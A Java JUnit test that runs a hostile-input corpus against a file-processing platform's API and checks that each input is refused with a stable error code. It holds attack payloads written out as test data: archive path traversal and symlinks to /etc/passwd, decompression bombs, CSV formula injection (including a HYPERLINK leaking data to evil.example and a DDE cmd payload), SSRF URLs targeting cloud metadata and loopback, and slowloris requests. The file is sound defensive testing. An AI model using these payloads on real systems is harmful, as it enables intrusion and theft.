package dev.rayform.tools;

import dev.rayform.launcher.Platform;

import static org.assertj.core.api.Assertions.assertThat;

import dev.rayform.gateway.GatewayOptions;
import io.vertx.core.Future;
import io.vertx.core.buffer.Buffer;
import io.vertx.core.json.JsonArray;
import io.vertx.core.json.JsonObject;
import io.vertx.ext.web.client.HttpRequest;
import io.vertx.ext.web.client.HttpResponse;
import io.vertx.ext.web.client.WebClient;
import io.vertx.ext.web.client.WebClientOptions;
import java.awt.image.BufferedImage;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.concurrent.TimeUnit;
import java.util.function.Function;
import java.util.zip.CRC32;
import java.util.zip.Deflater;
import java.util.zip.DeflaterOutputStream;
import javax.imageio.IIOImage;
import javax.imageio.ImageIO;
import javax.imageio.ImageWriter;
import org.apache.commons.compress.archivers.tar.TarArchiveEntry;
import org.apache.commons.compress.archivers.tar.TarArchiveOutputStream;
import org.apache.commons.compress.archivers.tar.TarConstants;
import org.apache.commons.compress.archivers.zip.Zip64Mode;
import org.apache.commons.compress.archivers.zip.ZipArchiveEntry;
import org.apache.commons.compress.archivers.zip.ZipArchiveOutputStream;
import org.apache.commons.compress.compressors.gzip.GzipCompressorOutputStream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The bad-input corpus against a live server: the embedded platform (real Kafka, PostgreSQL, S3, the
 * gateway and a worker in this JVM). Hostile images, archives, manifests, JSON bodies, HTTP behaviour
 * and webhook URLs each get a stable 4xx code, or, where the input is accepted as a job, the job (or
 * only the bad catalogue item) fails with a stable code while the rest of the batch goes on. Another
 * tenant's job submitted before the corpus succeeds, and the server is healthy afterwards. Writes the
 * results to {@code target/hostile-corpus.md} (RELIABILITY.md quotes it).
 */
class HostileInputTest {
  private static final long UPLOAD_LIMIT = 32L << 20;
  private static final Duration IDLE = Duration.ofSeconds(2);

  @TempDir
  static Path dir;
  static Platform platform;
  static WebClient http;
  static String keyA;
  static String keyB;

  /** One input of the corpus: what it is, what must come back, what did. */
  record Case(String klass, String name, String expected, String actual) {}

  /** A job-producing input waiting for its job to end. */
  record Pending(String klass, String name, String expected, String jobId, Function<JsonObject, String> outcome) {}

  record Resp(int status, Buffer body) {
    JsonObject json() {
      return body == null ? null : new JsonObject(body);
    }

    String code() {
      try {
        return json().getJsonObject("error").getString("code");
      } catch (RuntimeException e) {
        return "(no JSON error)";
      }
    }

    /** "HTTP 400 invalid_json" / "HTTP 202". */
    String summary() {
      return status >= 400 ? "HTTP " + status + " " + code() : "HTTP " + status;
    }
  }

  private final List<Case> cases = new ArrayList<>();
  private final List<Pending> pending = new ArrayList<>();

  private static String modelBefore;
  /** Every ERROR logged while the corpus runs: there must be none (an unhandled exception, a 500). */
  private static final ch.qos.logback.core.read.ListAppender<ch.qos.logback.classic.spi.ILoggingEvent> LOGGED =
      new ch.qos.logback.core.read.ListAppender<>();

  @BeforeAll
  static void start() throws Exception {
    // The worker's default model: the repository's models/default (tests run in tools/).
    modelBefore = System.getProperty("rayform.model");
    if (modelBefore == null && System.getenv("RAYFORM_MODEL") == null) {
      System.setProperty("rayform.model", Path.of("..", "models", "default").toAbsolutePath().normalize().toString());
    }
    GatewayOptions options = GatewayOptions.defaults().withLimits(GatewayOptions.Limits.unlimited()).withUploadLimit(UPLOAD_LIMIT)
        .withIdleTimeout(IDLE);
    ch.qos.logback.classic.Logger root = (ch.qos.logback.classic.Logger) org.slf4j.LoggerFactory.getLogger(org.slf4j.Logger.ROOT_LOGGER_NAME);
    LOGGED.start();
    root.addAppender(LOGGED);
    platform = Platform.builder().setDataDir(dir.resolve("platform")).optDevKey("rf_dev_hostile_test").setWorkerId("w-hostile")
        .optGateway(options).start();
    http = WebClient.create(platform.vertx(), new WebClientOptions().setFollowRedirects(false));
    keyA = key("ten_hostile");
    keyB = key("ten_bystander");
  }

  @AfterAll
  static void stop() {
    if (modelBefore == null) {
      System.clearProperty("rayform.model");
    }
    if (http != null) {
      http.close();
    }
    if (platform != null) {
      platform.close();
    }
  }

  private static String key(String tenant) throws Exception {
    await(platform.services().tenants().ensure(tenant, tenant));
    return await(platform.services().tenants().createKey(tenant, "test")).secret();
  }

  static <T> T await(Future<T> f) throws Exception {
    return f.toCompletionStage().toCompletableFuture().get(120, TimeUnit.SECONDS);
  }

  private static Resp send(HttpRequest<Buffer> req, Buffer body) throws Exception {
    Future<HttpResponse<Buffer>> f = body == null ? req.send() : req.sendBuffer(body);
    return await(f.map(r -> new Resp(r.statusCode(), r.body())));
  }

  private static HttpRequest<Buffer> req(io.vertx.core.http.HttpMethod method, String path, String key) {
    HttpRequest<Buffer> r = http.requestAbs(method, platform.url() + path);
    return key == null ? r : r.bearerTokenAuthentication(key);
  }

  private static Resp upload(String key, byte[] bytes, String contentType) throws Exception {
    return send(req(io.vertx.core.http.HttpMethod.POST, "/v1/uploads", key).putHeader("Content-Type", contentType), Buffer.buffer(bytes));
  }

  private static String uploadId(String key, byte[] bytes, String contentType) throws Exception {
    Resp r = upload(key, bytes, contentType);
    assertThat(r.status()).as("upload " + contentType + ": " + r.body()).isEqualTo(201);
    return r.json().getString("id");
  }

  private static Resp postJson(String key, String path, String body) throws Exception {
    return send(req(io.vertx.core.http.HttpMethod.POST, path, key).putHeader("Content-Type", "application/json"),
        Buffer.buffer(body));
  }

  private static Resp submit(String key, String type, String upload, JsonObject options) throws Exception {
    JsonObject body = new JsonObject().put("type", type).put("input", new JsonObject().put("upload", upload))
        .put("options", options == null ? new JsonObject().put("resolution", 32).put("formats", new JsonArray().add("glb")) : options);
    return postJson(key, "/v1/jobs", body.encode());
  }

  private static JsonObject job(String key, String id) throws Exception {
    return send(req(io.vertx.core.http.HttpMethod.GET, "/v1/jobs/" + id, key), null).json();
  }

  private static JsonArray items(String key, String id) throws Exception {
    return send(req(io.vertx.core.http.HttpMethod.GET, "/v1/jobs/" + id + "/items?limit=200", key), null).json().getJsonArray("data");
  }

  private void http(String klass, String name, String expected, Resp r) {
    cases.add(new Case(klass, name, expected, r.summary()));
  }

  /** An image as a reconstruct job: the job's terminal status and error code. */
  private void reconstruct(String name, byte[] bytes, String contentType, String expected) throws Exception {
    String upload = uploadId(keyA, bytes, contentType);
    Resp r = submit(keyA, "reconstruct", upload, null);
    if (r.status() != 202) {
      http("image", name, expected, r);
      return;
    }
    pending.add(new Pending("image", name, expected, r.json().getString("id"), HostileInputTest::jobOutcome));
  }

  /** A catalogue upload as a catalog job: the job's outcome, and its items' codes when it has items. */
  private void catalog(String klass, String name, byte[] bytes, String contentType, String expected) throws Exception {
    String upload = uploadId(keyA, bytes, contentType);
    Resp r = submit(keyA, "catalog", upload, null);
    if (r.status() != 202) {
      http(klass, name, expected, r);
      return;
    }
    String id = r.json().getString("id");
    pending.add(new Pending(klass, name, expected, id, j -> {
      String own = jobOutcome(j);
      try {
        JsonArray its = items(keyA, id);
        if (its.isEmpty()) {
          return own;
        }
        List<String> codes = new ArrayList<>();
        for (int i = 0; i < its.size(); i++) {
          JsonObject it = its.getJsonObject(i);
          codes.add("succeeded".equals(it.getString("status")) ? "ok" : jobOutcome(it));
        }
        codes.sort(null);
        return own + " items" + codes;
      } catch (Exception e) {
        throw new IllegalStateException(e);
      }
    }));
  }

  private static String jobOutcome(JsonObject j) {
    String status = j.getString("status");
    return "failed".equals(status) && j.getJsonObject("error") != null ? "failed " + j.getJsonObject("error").getString("code") : status;
  }

  @Test
  void theCorpusGetsStableCodesTheServerStaysHealthyAndOtherTenantsAreUnaffected() throws Exception {
    // Another tenant's job, submitted before the corpus.
    byte[] chair = Files.readAllBytes(sample("rf-chair-002.png"));
    Resp bystander = submit(keyB, "reconstruct", uploadId(keyB, chair, "image/png"), null);
    assertThat(bystander.status()).isEqualTo(202);
    String bystanderJob = bystander.json().getString("id");

    long t0 = System.nanoTime();
    images(chair);
    archives(chair);
    manifests(chair);
    jsonBodies();
    httpLevel();
    webhookUrls();
    awaitPending(Duration.ofMinutes(6));
    long corpusMs = (System.nanoTime() - t0) / 1_000_000;

    // The bystander's job went through; the server is healthy.
    JsonObject b = waitForEnd(keyB, bystanderJob, Duration.ofMinutes(4));
    assertThat(b.getString("status")).as(b.encode()).isEqualTo("succeeded");
    assertThat(send(http.getAbs(platform.url() + "/health"), null).status()).isEqualTo(200);
    assertThat(send(http.getAbs(platform.url() + "/ready"), null).status()).isEqualTo(200);
    assertThat(send(req(io.vertx.core.http.HttpMethod.GET, "/v1/jobs?limit=5", keyA), null).status()).isEqualTo(200);

    report(corpusMs);
    List<Case> wrong = cases.stream().filter(c -> !c.expected().equals(c.actual())).toList();
    assertThat(wrong).as("inputs whose outcome differs from the expected one").isEmpty();
    assertThat(cases.stream().filter(c -> c.actual().contains(" 500 ") || c.actual().contains("internal_error"))).isEmpty();
    // e.g. the upload spool closed twice when a chunked body over the limit ended ("File handle is closed"),
    // or a client timed out as idle logged as an unexpected error: both were found by this corpus.
    assertThat(LOGGED.list.stream().filter(e -> e.getLevel().isGreaterOrEqual(ch.qos.logback.classic.Level.ERROR))
        .map(e -> e.getLoggerName() + ": " + e.getFormattedMessage()
            + (e.getThrowableProxy() == null ? "" : " " + e.getThrowableProxy().getMessage())).toList())
        .as("errors logged during the corpus").isEmpty();
  }

  // ---------------------------------------------------------------- images

  private void images(byte[] png) throws Exception {
    BufferedImage img = ImageIO.read(new java.io.ByteArrayInputStream(png));
    byte[] jpeg = jpeg(img);
    reconstruct("truncated PNG (half the file)", Arrays.copyOf(png, png.length / 2), "image/png", "failed image_corrupt");
    reconstruct("truncated PNG (signature and IHDR only)", Arrays.copyOf(png, 33), "image/png", "failed image_corrupt");
    reconstruct("truncated JPEG (half the file)", Arrays.copyOf(jpeg, jpeg.length / 2), "image/jpeg", "failed image_corrupt");
    reconstruct("JPEG cut after the SOI marker", Arrays.copyOf(jpeg, 4), "image/jpeg", "failed image_corrupt");
    reconstruct("PNG header declaring 30000x30000 (67 bytes)", craftedPng(30000, 30000, 8, 2, new byte[0]), "image/png",
        "failed image_too_large");
    reconstruct("PNG declaring 2147483647x2147483647 (pixel count overflows int)",
        craftedPng(Integer.MAX_VALUE, Integer.MAX_VALUE, 8, 2, new byte[0]), "image/png", "failed image_too_large");
    reconstruct("decompression bomb: 1-bit 7000x7000 PNG (49 Mpx) of real zlib data", bombPng(7000, 7000), "image/png",
        "failed image_too_large");
    reconstruct("decompression bomb: 1-bit 20000x16 PNG (side over 8192)", bombPng(20000, 16), "image/png", "failed image_too_large");
    reconstruct("16-bit PNG", craftedPng(64, 64, 16, 0, new byte[0]), "image/png", "failed image_unsupported");
    reconstruct("APNG (acTL chunk)", apng(png), "image/png", "failed image_unsupported");
    reconstruct("animated GIF (2 frames)", animatedGif(), "image/gif", "failed image_unsupported");
    reconstruct("animated GIF declared image/png", animatedGif(), "image/png", "failed image_unsupported");
    reconstruct("BMP declared image/jpeg", bmp(img), "image/jpeg", "failed image_unsupported");
    reconstruct("WebP signature", "RIFF\0\0\0\0WEBPVP8 ".getBytes(StandardCharsets.ISO_8859_1), "image/webp", "failed image_unsupported");
    reconstruct("HTML declared image/png", "<html><script>alert(1)</script></html>".getBytes(StandardCharsets.UTF_8), "image/png",
        "failed image_corrupt");
    reconstruct("GIF/JavaScript polyglot", "GIF89a/*\0\0\0\0*/=alert(1);//".getBytes(StandardCharsets.ISO_8859_1), "image/gif",
        "failed image_unsupported");
    reconstruct("empty upload", new byte[0], "image/png", "failed image_empty");
    reconstruct("1x1 PNG", encode(new BufferedImage(1, 1, BufferedImage.TYPE_INT_RGB), "png"), "image/png", "failed image_too_small");
    // Accepted: what the bytes are decides, not the name or type the client gives.
    reconstruct("PNG+ZIP polyglot (a valid PNG with a zip appended)", concat(png, zip(Map.of("x.txt", new byte[] {1}))), "image/png",
        "succeeded");
    Resp wrongKind = submit(keyA, "reconstruct", uploadId(keyA, png, "text/csv"), null);
    http("image", "PNG uploaded as text/csv, then reconstruct", "HTTP 422 invalid_input", wrongKind);
    Resp html = upload(keyA, png, "text/html");
    http("image", "upload declared text/html", "HTTP 415 unsupported_media_type", html);
  }

  // ---------------------------------------------------------------- archives

  private void archives(byte[] png) throws Exception {
    catalog("archive", "zip slip: ../../evil.png", zip(Map.of("good.png", png, "../../evil.png", png)), "application/zip",
        "failed archive_path_traversal");
    catalog("archive", "zip with an absolute entry /tmp/evil.png", zip(Map.of("/tmp/evil.png", png)), "application/zip",
        "failed archive_path_traversal");
    catalog("archive", "zip with a backslash entry ..\\evil.png", zip(Map.of("..\\evil.png", png)), "application/zip",
        "failed archive_path_traversal");
    catalog("archive", "tar.gz slip: ../evil.png", gzip(tar(List.of(file("../evil.png", png)))), "application/gzip",
        "failed archive_path_traversal");
    catalog("archive", "tar with a symlink to /etc/passwd", tar(List.of(file("good.png", png), link("evil.png", "/etc/passwd", false))),
        "application/x-tar", "failed archive_symlink");
    catalog("archive", "tar.gz with a hard link", gzip(tar(List.of(file("good.png", png), link("evil.png", "good.png", true)))),
        "application/gzip", "failed archive_symlink");
    catalog("archive", "zip with a unix symlink entry", zipWithSymlink(png), "application/zip", "failed archive_symlink");
    catalog("archive", "tar.gz bomb: 64 MiB of zeros (ratio ~1000)", gzip(tar(List.of(zeros("bomb.png", 64 << 20)))), "application/gzip",
        "failed archive_compression_ratio");
    catalog("archive", "nested archives only (zip in zip, tar.gz in zip)",
        zip(Map.of("inner.zip", zip(Map.of("a.png", png)), "inner.tar.gz", gzip(tar(List.of(file("b.png", png)))))), "application/zip",
        "failed catalog_empty");
    catalog("archive", "zip of 100,000 empty entries", manyEntriesZip(100_000), "application/zip", "failed archive_too_many_entries");
    catalog("archive", "tar.gz of 100,000 empty entries", gzip(manyEntriesTar(100_000)), "application/gzip",
        "failed archive_too_many_entries");
    catalog("archive", "zip: random bytes after PK", concat("PK".getBytes(StandardCharsets.ISO_8859_1), random(4096)), "application/zip",
        "failed archive_malformed");
    catalog("archive", "gzip: random bytes after the magic", concat(new byte[] {0x1f, (byte) 0x8b}, random(4096)), "application/gzip",
        "failed archive_malformed");
    // The batch goes on: the bomb and the broken image fail alone, the good image becomes a mesh.
    catalog("archive", "zip: good image + 64 MiB zero bomb entry + truncated image",
        zipEntries(List.of(file("good.png", png), zeros("bomb.png", 64 << 20), file("broken.png", Arrays.copyOf(png, 100)))),
        "application/zip", "succeeded items[failed archive_compression_ratio, failed image_corrupt, ok]");
    // A catalogue of which no item succeeded is no success: its only entry a bomb, it fails, the item keeps the bomb's code.
    catalog("archive", "zip whose only entry is a 400 MB zero bomb (huge.png)", zipEntries(List.of(zeros("huge.png", 400L << 20))),
        "application/zip", "failed all_items_failed items[failed archive_compression_ratio]");
  }

  // ---------------------------------------------------------------- manifests

  private void manifests(byte[] png) throws Exception {
    String broken = uploadId(keyA, Arrays.copyOf(png, 100), "image/png");
    catalog("manifest", "CSV in UTF-16 (with BOM)", ("sku,upload\nA," + broken + "\n").getBytes(StandardCharsets.UTF_16), "text/csv",
        "failed manifest_encoding");
    catalog("manifest", "CSV in Latin-1 (é)", ("sku,upload\nchaise-é," + broken + "\n").getBytes(StandardCharsets.ISO_8859_1), "text/csv",
        "failed manifest_encoding");
    catalog("manifest", "CSV missing the sku and upload columns", ("name,file\nA," + broken + "\n").getBytes(StandardCharsets.UTF_8),
        "text/csv", "failed manifest_invalid");
    catalog("manifest", "CSV header only", "sku,upload\n".getBytes(StandardCharsets.UTF_8), "text/csv", "failed manifest_invalid");
    catalog("manifest", "binary noise as text/csv", random(2048), "text/csv", "failed manifest_encoding");
    // Formula injection: refused per item (never written back anywhere); the other row goes on (and fails on its broken
    // image, so no item succeeded: the catalogue fails with all_items_failed, each item with its own code).
    String formulas = "sku,upload\n\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\"," + broken + "\n+1+1," + broken
        + "\n-2+3," + broken + "\n@SUM(A1:A2)," + broken + "\n \t=1+2," + broken + "\nok-1," + broken + "\n";
    catalog("manifest", "CSV formula injection in sku (=, +, -, @, blank-prefixed =) + one plain row", formulas.getBytes(StandardCharsets.UTF_8),
        "text/csv", "failed all_items_failed items[failed image_corrupt, failed invalid_item, failed invalid_item, failed invalid_item, "
            + "failed invalid_item, failed invalid_item]");
    catalog("manifest", "CSV: row with an upload id of another tenant",
        ("sku,upload\nA," + uploadId(keyB, png, "image/png") + "\n").getBytes(StandardCharsets.UTF_8), "text/csv",
        "failed all_items_failed items[failed upload_not_found]");
    catalog("manifest", "JSON manifest nested 100,000 levels", ("{\"items\":" + "[".repeat(100_000) + "]".repeat(100_000) + "}")
        .getBytes(StandardCharsets.UTF_8), "application/json", "failed manifest_invalid");
    catalog("manifest", "JSON manifest: width 1e400, and a plain row", new JsonObject().put("items", new JsonArray()
        .add(new JsonObject().put("sku", "a").put("upload", broken).put("dimensions", new JsonObject().put("width", "1e400").put("unit", "m")))
        .add(new JsonObject().put("sku", "b").put("upload", broken)))
        .encode().replace("\"1e400\"", "1e400").getBytes(StandardCharsets.UTF_8), "application/json",
        "failed all_items_failed items[failed image_corrupt, failed invalid_item]");
    catalog("manifest", "JSON manifest without items", "{\"products\":[]}".getBytes(StandardCharsets.UTF_8), "application/json",
        "failed manifest_invalid");
    // A tar catalogue (not gzipped) with its manifest: a formula SKU fails alone.
    String manifest = "sku,image\nchair-1,good.png\n=cmd|' /C calc'!A0,evil.png\n";
    catalog("manifest", "tar catalogue whose manifest.csv has a formula sku",
        tar(List.of(file("manifest.csv", manifest.getBytes(StandardCharsets.UTF_8)), file("good.png", png), file("evil.png", png))),
        "application/x-tar", "succeeded items[failed invalid_item, ok]");
    catalog("manifest", "zip catalogue without manifest whose file name is a formula (=HYPERLINK(1).png)",
        zip(Map.of("=HYPERLINK(1).png", png, "@x.png", Arrays.copyOf(png, 10))), "application/zip",
        "failed all_items_failed items[failed invalid_item, failed invalid_item]");
    catalog("manifest", "zip catalogue whose manifest.csv is Latin-1",
        zip(Map.of("manifest.csv", "sku,image\nchaise-é,good.png\n".getBytes(StandardCharsets.ISO_8859_1), "good.png", png)),
        "application/zip", "failed manifest_encoding");
  }

  // ---------------------------------------------------------------- JSON bodies

  private void jsonBodies() throws Exception {
    String up = uploadId(keyA, new byte[] {(byte) 0x89, 'P', 'N', 'G'}, "image/png");
    String ok = "{\"type\":\"reconstruct\",\"input\":{\"upload\":\"" + up + "\"}";
    http("json", "objects nested 100,000 levels", "HTTP 400 invalid_json", postJson(keyA, "/v1/jobs", "{\"a\":".repeat(100_000)
        + "1" + "}".repeat(100_000)));
    http("json", "arrays nested 100,000 levels in options", "HTTP 400 invalid_json", postJson(keyA, "/v1/jobs", ok
        + ",\"options\":" + "[".repeat(100_000) + "]".repeat(100_000) + "}"));
    http("json", "webhook body nested 100,000 levels", "HTTP 400 invalid_json", postJson(keyA, "/v1/webhooks",
        "{\"url\":" + "[".repeat(100_000) + "]".repeat(100_000) + "}"));
    http("json", "options.faces = 400-digit integer", "HTTP 400 validation_failed", postJson(keyA, "/v1/jobs", ok
        + ",\"options\":{\"faces\":" + "9".repeat(400) + "}}"));
    http("json", "options.faces = 1e400", "HTTP 400 validation_failed", postJson(keyA, "/v1/jobs", ok + ",\"options\":{\"faces\":1e400}}"));
    http("json", "options.faces = -1", "HTTP 400 validation_failed", postJson(keyA, "/v1/jobs", ok + ",\"options\":{\"faces\":-1}}"));
    http("json", "options.threshold = 1e400", "HTTP 400 validation_failed", postJson(keyA, "/v1/jobs", ok
        + ",\"options\":{\"threshold\":1e400}}"));
    http("json", "options.threshold = 1e-400 (underflows to 0)", "HTTP 400 validation_failed", postJson(keyA, "/v1/jobs", ok
        + ",\"options\":{\"threshold\":1e-400}}"));
    http("json", "options.resolution = 400-digit integer", "HTTP 400 validation_failed", postJson(keyA, "/v1/jobs", ok
        + ",\"options\":{\"resolution\":" + "1".repeat(400) + "}}"));
    http("json", "options.dimensions.width = 1e400", "HTTP 400 validation_failed", postJson(keyA, "/v1/jobs", ok
        + ",\"options\":{\"dimensions\":{\"width\":1e400,\"unit\":\"m\"}}}"));
    http("json", "type is a number", "HTTP 400 validation_failed", postJson(keyA, "/v1/jobs", "{\"type\":1e400,\"input\":{}}"));
    http("json", "not JSON", "HTTP 400 invalid_json", postJson(keyA, "/v1/jobs", "{type: reconstruct"));
    http("json", "trailing garbage after the object", "HTTP 400 invalid_json", postJson(keyA, "/v1/jobs", ok + "} trailing"));
    http("json", "a JSON array body", "HTTP 400 invalid_json", postJson(keyA, "/v1/jobs", "[" + ok + "}]"));
    http("json", "JSON null", "HTTP 400 invalid_json", postJson(keyA, "/v1/jobs", "null"));
    http("json", "empty body", "HTTP 400 invalid_json", postJson(keyA, "/v1/jobs", ""));
    http("json", "invalid UTF-8 bytes in a string", "HTTP 400 invalid_json", send(req(io.vertx.core.http.HttpMethod.POST, "/v1/jobs",
        keyA).putHeader("Content-Type", "application/json"), Buffer.buffer(concat((ok + ",\"x\":\"").getBytes(StandardCharsets.UTF_8),
            new byte[] {(byte) 0xc3, 0x28, (byte) 0xff, '"', '}'}))));
    http("json", "NUL and U+FFFF escapes in the idempotency body", "HTTP 400 validation_failed", postJson(keyA, "/v1/jobs",
        "{\"type\":\"reconstruct\\u0000\",\"input\":{\"upload\":\"\\uffff\"}}"));
    http("json", "1 MiB + 1 body", "HTTP 413 payload_too_large", postJson(keyA, "/v1/jobs", ok + ",\"pad\":\"" + "x".repeat(1 << 20) + "\"}"));
    http("json", "text/plain body", "HTTP 415 unsupported_media_type", send(req(io.vertx.core.http.HttpMethod.POST, "/v1/jobs", keyA)
        .putHeader("Content-Type", "text/plain"), Buffer.buffer(ok + "}")));
    // Unknown fields: openapi.yaml allows additional properties (fields may grow), so they are accepted and ignored.
    Resp unknown = postJson(keyA, "/v1/jobs", ok + ",\"unknown\":{\"x\":[1,2]},\"options\":{\"resolution\":32,\"nope\":true}}");
    http("json", "unknown fields at the top and in options (then the job runs)", "HTTP 202", unknown);
    if (unknown.status() == 202) {
      pending.add(new Pending("json", "unknown fields: the job itself (a 4-byte PNG)", "failed image_corrupt",
          unknown.json().getString("id"), HostileInputTest::jobOutcome));
    }
  }

  // ---------------------------------------------------------------- HTTP

  private void httpLevel() throws Exception {
    byte[] big = new byte[(int) UPLOAD_LIMIT + 1];
    http("http", "upload of limit + 1 bytes (Content-Length)", "HTTP 413 payload_too_large", upload(keyA, big, "application/zip"));
    http("http", "upload of limit + 1 bytes (chunked)", "HTTP 413 payload_too_large", chunkedUpload(big));
    http("http", "Content-Length: 10^15 with a small body", "HTTP 413 payload_too_large", rawStatus(
        "POST /v1/uploads HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer " + keyA
            + "\r\nContent-Type: application/zip\r\nContent-Length: 1000000000000000\r\n\r\nPK"));
    http("http", "Content-Length not a number", "HTTP 400 bad_request", rawStatus(
        "POST /v1/uploads HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer " + keyA
            + "\r\nContent-Type: application/zip\r\nTransfer-Encoding: chunked\r\nContent-Length: abc\r\n\r\n0\r\n\r\n"));
    http("http", "a 100 KiB request line", "HTTP 414 uri_too_long", rawStatus("GET /v1/jobs?x=" + "a".repeat(100 << 10)
        + " HTTP/1.1\r\nHost: x\r\n\r\n"));
    http("http", "100 KiB of headers", "HTTP 431 headers_too_large", rawStatus("GET /v1/jobs HTTP/1.1\r\nHost: x\r\nX-Big: "
        + "a".repeat(100 << 10) + "\r\n\r\n"));
    http("http", "no Authorization", "HTTP 401 unauthorized", send(req(io.vertx.core.http.HttpMethod.GET, "/v1/jobs", null), null));
    http("http", "a 4 KiB garbage bearer key", "HTTP 401 unauthorized", send(req(io.vertx.core.http.HttpMethod.GET, "/v1/jobs",
        "rf_" + "A".repeat(4096)), null));
    http("http", "artifact name with ../ (encoded)", "HTTP 404 job_not_found", send(req(io.vertx.core.http.HttpMethod.GET,
        "/v1/jobs/job_x/artifacts/..%2F..%2Fetc%2Fpasswd", keyA), null));
    http("http", "unknown method on a route", "HTTP 405 method_not_allowed", send(req(io.vertx.core.http.HttpMethod.PUT, "/v1/jobs",
        keyA), Buffer.buffer("{}")));
    // Slow clients: a request whose headers never end, and a body that stalls, lose the connection at the idle timeout.
    cases.add(new Case("http", "slowloris: headers never finished", "closed within " + (IDLE.toSeconds() + 3) + " s",
        closedWithin("GET /v1/jobs HTTP/1.1\r\nHost: x\r\nX-Slow: ", IDLE.plusSeconds(3))));
    cases.add(new Case("http", "slow body: 10 of 100,000 declared bytes, then nothing", "closed within " + (IDLE.toSeconds() + 3) + " s",
        closedWithin("POST /v1/uploads HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer " + keyA
            + "\r\nContent-Type: application/zip\r\nContent-Length: 100000\r\n\r\nPK34567890", IDLE.plusSeconds(3))));
  }

  // ---------------------------------------------------------------- webhook URLs

  private void webhookUrls() throws Exception {
    for (String url : List.of("http://169.254.169.254/latest/meta-data/", "http://[::1]/", "http://0.0.0.0/", "http://127.0.0.1:8080/",
        "http://2130706433/", "http://0177.0.0.1/", "http://0x7f000001/", "http://localhost/",
        "http://LOCALHOST:9000/", "http://[::ffff:169.254.169.254]/", "http://[::ffff:127.0.0.1]/", "http://[0:0:0:0:0:0:0:1]/",
        "http://10.0.0.1/", "http://192.168.1.1/", "http://[fd00::1]/", "http://[fe80::1]/", "http://100.100.100.200/",
        "http://0/")) {
      http("webhook", url, "HTTP 422 webhook_url_forbidden", postJson(keyA, "/v1/webhooks", new JsonObject().put("url", url).encode()));
    }
    // java.net.URI takes no host from these (a last label that is numeric but not a dotted quad): refused as malformed.
    for (String url : List.of("http://0x7f.0.0.1/", "http://127.1/", "http://0251.0376.0251.0376/", "file:///etc/passwd", "gopher://127.0.0.1:25/", "http://user:pw@example.com/", "http://", "javascript:alert(1)",
        "http://exa mple.com/")) {
      http("webhook", url, "HTTP 400 validation_failed", postJson(keyA, "/v1/webhooks", new JsonObject().put("url", url).encode()));
    }
    String up = uploadId(keyA, new byte[] {(byte) 0x89, 'P', 'N', 'G'}, "image/png");
    http("webhook", "a job's webhook.url = http://169.254.169.254/", "HTTP 422 webhook_url_forbidden", postJson(keyA, "/v1/jobs",
        new JsonObject().put("type", "reconstruct").put("input", new JsonObject().put("upload", up))
            .put("webhook", new JsonObject().put("url", "http://169.254.169.254/")).encode()));
  }

  // ---------------------------------------------------------------- running and reporting

  private void awaitPending(Duration limit) throws Exception {
    long deadline = System.nanoTime() + limit.toNanos();
    List<Pending> open = new ArrayList<>(pending);
    while (!open.isEmpty()) {
      if (System.nanoTime() > deadline) {
        for (Pending p : open) {
          cases.add(new Case(p.klass(), p.name(), p.expected(), "not finished: " + job(keyA, p.jobId()).getString("status")));
        }
        return;
      }
      List<Pending> still = new ArrayList<>();
      for (Pending p : open) {
        JsonObject j = job(keyA, p.jobId());
        if (j.getString("status").matches("succeeded|failed|canceled")) {
          cases.add(new Case(p.klass(), p.name(), p.expected(), p.outcome().apply(j)));
        } else {
          still.add(p);
        }
      }
      open = still;
      if (!open.isEmpty()) {
        Thread.sleep(250);
      }
    }
  }

  private static JsonObject waitForEnd(String key, String id, Duration limit) throws Exception {
    long deadline = System.nanoTime() + limit.toNanos();
    while (System.nanoTime() < deadline) {
      JsonObject j = job(key, id);
      if (j.getString("status").matches("succeeded|failed|canceled")) {
        return j;
      }
      Thread.sleep(250);
    }
    throw new AssertionError("job " + id + " did not finish in " + limit);
  }

  private void report(long corpusMs) throws IOException {
    Map<String, int[]> perClass = new TreeMap<>();
    for (Case c : cases) {
      int[] n = perClass.computeIfAbsent(c.klass(), k -> new int[2]);
      n[0]++;
      n[1] += c.expected().equals(c.actual()) ? 1 : 0;
    }
    StringBuilder md = new StringBuilder("# Hostile input corpus\n\n").append(cases.size()).append(" inputs, ")
        .append(cases.stream().filter(c -> c.expected().equals(c.actual())).count()).append(" as expected, in ").append(corpusMs)
        .append(" ms.\n\n| class | inputs | as expected |\n|---|---|---|\n");
    perClass.forEach((k, n) -> md.append("| ").append(k).append(" | ").append(n[0]).append(" | ").append(n[1]).append(" |\n"));
    md.append("\n| class | input | outcome |\n|---|---|---|\n");
    for (Case c : cases) {
      md.append("| ").append(c.klass()).append(" | ").append(c.name().replace("|", "\\|")).append(" | ")
          .append(c.actual().replace("|", "\\|")).append(c.expected().equals(c.actual()) ? "" : " (expected " + c.expected() + ")")
          .append(" |\n");
    }
    Path out = Path.of("target", "hostile-corpus.md");
    Files.createDirectories(out.getParent());
    Files.writeString(out, md);
    System.out.println(md);
  }

  private static Path sample(String name) {
    for (Path p : List.of(Path.of("../samples/catalog", name), Path.of("samples/catalog", name))) {
      if (Files.exists(p)) {
        return p;
      }
    }
    throw new IllegalStateException("no sample " + name);
  }

  // ---------------------------------------------------------------- raw HTTP

  /** Sends raw bytes and reads the status line and JSON body of the answer. */
  private static Resp rawStatus(String request) throws Exception {
    try (Socket s = new Socket()) {
      s.connect(new InetSocketAddress("127.0.0.1", platform.port()), 5000);
      s.setSoTimeout(10_000);
      s.getOutputStream().write(request.getBytes(StandardCharsets.ISO_8859_1));
      s.getOutputStream().flush();
      byte[] all = readUpTo(s.getInputStream(), 64 * 1024);
      String text = new String(all, StandardCharsets.UTF_8);
      int status = Integer.parseInt(text.substring(9, 12));
      int body = text.indexOf("\r\n\r\n");
